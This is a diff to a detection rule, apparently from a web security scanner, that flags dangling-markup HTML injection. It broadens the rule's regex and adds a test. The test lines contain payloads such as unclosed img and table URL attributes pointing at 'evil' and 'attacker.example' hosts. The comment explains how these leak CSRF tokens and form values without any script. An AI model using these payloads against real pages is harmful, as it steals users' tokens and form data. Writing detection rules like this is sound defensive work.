@@ -290,10 +290,10 @@ name: HTML injection: dangling markup, a URL attribute left open over the markup
 type: Cross Site Scripting (XSS)
 accuracy: high
 risk: medium
-# A quoted attribute that opens on a URL and is never closed before the next tag
-# (`<img src="//evil?` then the page's own markup): the browser sends everything up to the next
-# matching quote, CSRF tokens and form values included, to that host, without any script. A
-# URL attribute a page writes closes its quote before its next tag.
+# A quoted attribute that opens on a URL and is never closed before the next tag or the value's
+# end (`<img src="//evil?`, then the page's own markup): the browser sends everything up to the
+# next matching quote, CSRF tokens and form values included, to that host, without any script.
+# A URL attribute a page writes closes its quote before its next tag.
 targets: @values, header
 unless: binary
 literal: src
@@ -304,10 +304,11 @@ literal: poster
 literal: data
 literal: ping
 literal: cite
-regex: <[a-z][\w:-]*\s[^>]*?\b(?:src|href|action|formaction|background|poster|data|ping|cite|codebase|lowsrc|dynsrc)\s*=\s*(["'])\s*(?:[a-z][\w+.-]*:)?//[^"'<>\r\n]{0,200}<
+regex: <[a-z][\w:-]*\s[^>]*?\b(?:src|href|action|formaction|background|poster|data|ping|cite|codebase|lowsrc|dynsrc)\s*=\s*["']\s*(?:[a-z][\w+.-]*:)?//[^"'<>\r\n]{0,200}(?:<|$)
 test: <body background="//evil? <table background="//evil? <table>
 test: <img src='http://attacker.example/?x= <form><input name=csrf value=1>
 test: "><a href="//evil.example/log?<input type=hidden>
+test: <img src="//attacker.example/log?
 pass: <img src="//cdn.example/a.png"><p>caption</p>
 pass: <a href="https://example.com/?q=1">link</a> <b>bold</b>
 pass: a < b and src = "//x" > c
